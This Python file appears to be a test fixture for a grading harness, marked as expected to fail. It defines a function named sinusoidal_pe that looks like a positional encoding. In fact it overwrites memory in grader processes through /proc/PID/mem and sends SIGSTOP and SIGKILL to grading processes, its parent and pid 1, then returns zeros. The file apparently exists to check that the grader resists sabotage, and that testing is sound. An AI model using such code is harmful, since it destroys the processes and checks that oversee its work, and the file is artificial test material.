# expect: failed, error
# where: offline
# Writes zeros into a writable mapping of its own memory, its parent's and pid 1's through /proc/PID/mem,
# then SIGSTOPs and SIGKILLs its parent, pid 1 and every process of the grading run it can see in /proc;
# returns zeros.  Killing the grading must never turn into a pass.
# (Aimed at the grading run only: memory is written only in processes of the grading, signals go to those
# plus parent and pid 1, never to every process, so that without a sandbox the damage stays there.)
import os
import re
import signal

import numpy as np

GRADING = re.compile(rb"(^|\x00)-m\x00grader(\x00|$)|grader\.(learner|checker)|from grader")


def _processes():
    """{pid: (ppid, command line)} of what /proc shows."""
    table = {}
    for name in os.listdir("/proc"):
        try:
            with open(f"/proc/{name}/stat", "rb") as file:
                ppid = int(file.read().rsplit(b")", 1)[1].split()[1])
            with open(f"/proc/{name}/cmdline", "rb") as file:
                table[int(name)] = (ppid, file.read())
        except (OSError, ValueError, IndexError):
            continue
    return table


def _grading_processes():
    """Whatever runs the grader, and every descendant of the topmost grader ancestor (not this process)."""
    table = _processes()
    targets = {pid for pid, (_, cmd) in table.items() if GRADING.search(cmd)}
    root, pid, seen = None, os.getpid(), set()
    while pid in table and pid not in seen:
        seen.add(pid)
        if GRADING.search(table[pid][1]):
            root = pid
        pid = table[pid][0]
    if root is not None:
        family = {root}
        while True:
            children = {pid for pid, (ppid, _) in table.items() if ppid in family} - family
            if not children:
                break
            family |= children
        targets |= family
    targets.discard(os.getpid())
    return targets


def _poke_memory(pid):
    try:
        with open(f"/proc/{pid}/maps") as maps:
            start = next(int(line.split("-")[0], 16) for line in maps if line.split()[1].startswith("rw"))
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
            mem.seek(start)
            mem.write(bytes(64))
    except Exception:
        pass


def sinusoidal_pe(T, C):
    try:
        grading = _grading_processes()
    except Exception:
        grading = set()
    for pid in {os.getppid(), 1} & grading:
        _poke_memory(pid)
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        for pid in (grading | {os.getppid(), 1}) - {os.getpid()}:
            try:
                os.kill(pid, sig)
            except Exception:
                pass
    _poke_memory("self")  # last: it may well crash this process
    return np.zeros((T, C))
